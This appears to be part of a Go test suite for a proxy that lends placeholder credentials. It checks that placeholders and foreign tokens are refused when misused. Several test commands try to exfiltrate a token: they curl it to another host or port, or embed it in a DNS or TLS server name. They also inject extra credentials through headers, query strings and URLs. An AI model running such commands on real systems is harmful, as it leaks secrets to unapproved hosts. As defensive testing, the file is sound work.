	add("D6a", "a placeholder in header and body", `$A lent1 {O} '`+body+lentAuth+`Content-Length: 200\r\n\r\n{P}{S*200}'`, misused, "placeholder-misused", lentOK1)
	add("D6b", "HTTP/2: a placeholder in header and body", `$A lent2 {H} 'body=x{P}' 'authorization=Bearer {P}'`, misused+"|0 answers", "placeholder-misused", lentOK2)
	add("D6c", "a placeholder that fills a header line behind the lent one, without a body's length", `$A lent1 {O} '`+body+lentAuth+`\r\n{P}\r\n\r\n' 'max=1 least=1'`, "200 of the server|400", "", lentOK1)
	for i, x := range [][2]string{{"another host", "elsewhere.example.com:{both}"}, {"another port", "{C}"}} {
		add(fmt.Sprintf("D1h%d", i), "a placeholder at "+x[0], `for s in https http; do curl -sSi --max-time $SOON -H "Authorization: Bearer $API_TOKEN" $s://`+x[1]+`/v1/x; done | tee o.$$; grep -qi 'x-lent: yes' o.$$ && exit 0; exit 1`, "(?i)cofferdam-denied: placeholder-misused|wrong version|x-lent: no", "", "")
	}
	add("D9", "one credential's placeholder at another's host and header", `$A lent2 key.lent.example.com:{both} '' 'x-api-key={P}'; $A lent2 key.lent.example.com:{both} '' 'authorization=Bearer {K}'`, misused, "", `$A lent2 key.lent.example.com:{both} lent 'x-api-key={K}'`)
	add("D10a", "the token endpoint cannot be reached", `curl -sSi --max-time 15 https://down.lent.example.com:{both}/v1/x | tee o.$$; grep -qi x-server o.$$`, "credential-unavailable", "", "")
	add("D13a", "a placeholder as a name", `curl -sS --max-time $SOON "https://$API_TOKEN.example.org/"; n=$(printf %s "$API_TOKEN" | tr -d _ | tr A-Z a-z); curl -sS --max-time $SOON "https://$n.example.org/"`, noName, "", "")
	add("D13b", "a placeholder as server name", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+`\r\n' sni=$API_TOKEN.example.com`, refusal, "", lentOK1)
}

// foreignAttacks bring credentials of the program's own, under which it would act at a lent host as somebody else.
func (l *lender) foreignAttacks(add adder) {
	const refused, rule = "403 foreign-credential", "foreign-credential"
	sigv4 := "AWS4-HMAC-SHA256 Credential=AKIAOFMYOWN000000000/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00"
	for i, x := range [][3]string{
		{"Authorization", "/v1/x", "Authorization: Bearer of-my-own"}, {"Basic", "/v1/x", "Authorization: Basic bWU6b2YtbXktb3du"}, {"a signature of AWS", "/v1/x", "Authorization: " + sigv4}, {"X-Api-Key", "/v1/x", "X-Api-Key: of-my-own"}, {"X_Api_Key, which some servers take for X-Api-Key", "/v1/x", "X_Api_Key: of-my-own"}, {"Private-Token", "/v1/x", "Private-Token: of-my-own"}, {"a cookie", "/v1/x", "Cookie: session=of-my-own"},
		{"X-Amz-Security-Token", "/v1/x", "X-Amz-Security-Token: of-my-own"}, {"a token in the query", "/v1/x?access_token=of-my-own", "X: 1"}, {"the same, encoded", "/v1/x?access%5Ftoken=of-my-own", "X: 1"}, {"the same behind a semicolon", "/v1/x?a=b;access_token=of-my-own", "X: 1"}, {"a signature in the query", "/v1/x?X-Amz-Signature=00&X-Amz-Credential=AKIA", "X: 1"},
		{"Authorization beyond the lent paths", "/v2/x", "Authorization: Bearer of-my-own"}, {"Authorization, in small letters", "/v1/x", "authorization: Bearer of-my-own"}, {"nothing but a scheme", "/v1/x", "Authorization: Bearer"}, {"the beginning of the placeholder", "/v1/x", "Authorization: Bearer {1}"},
	} {
		add(fmt.Sprintf("D14a%02d", i), "of one's own: "+x[0], `$A lent1 {O} 'GET `+x[1]+` HTTP/1.1\r\n`+lentHead+x[2]+`\r\n\r\n'`, refused, rule, lentOK1)
		name, value, _ := strings.Cut(x[2], ": ")
		if name, value = strings.ToLower(name), strings.TrimSpace(value); value == "" {
			value = "Bearer"
		}
		add(fmt.Sprintf("D14b%02d", i), "HTTP/2: of one's own: "+x[0], `$A lent2 {H} '' ':path=`+x[1]+`' '`+strings.TrimSuffix(name, ":")+`=`+value+`'`, refused, rule, lentOK2)
	}
	add("D14c", "of one's own beside the placeholder", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`Authorization: Bearer of-my-own\r\n\r\n'`, refused, rule, lentOK1)
	add("D14d", "HTTP/2: of one's own beside the placeholder", `$A lent2 {H} '' 'authorization=Bearer {P}' 'authorization=Bearer of-my-own'`, refused, rule, lentOK2)
	add("D14e", "user and password in the URL", `curl -sSi --max-time $SOON https://me:of-my-own@{H}/v1/x | tee o.$$; grep -qi x-server o.$$`, "foreign-credential", rule, "")
	add("D14f", "the placeholder with something behind it", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+`Authorization: Bearer {P}x, Bearer of-my-own\r\n\r\n' ''  | tee o.$$; grep -q 'lent: no' o.$$`, "lent: yes", "", lentOK1)
	add("D14g", "a client's own certificate: TLS that was ended asks for none", `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.$$ -out c.$$ -subj /CN=me -days 1 2>/dev/null; openssl s_client -connect {H} -servername {h} -cert c.$$ -key k.$$ </dev/null 2>&1 | tee o.$$ | grep -i 'client certificate'; grep -qi 'no client certificate ca names sent' o.$$ || exit 0; exit 1`, "(?i)no client certificate", "", "")
}
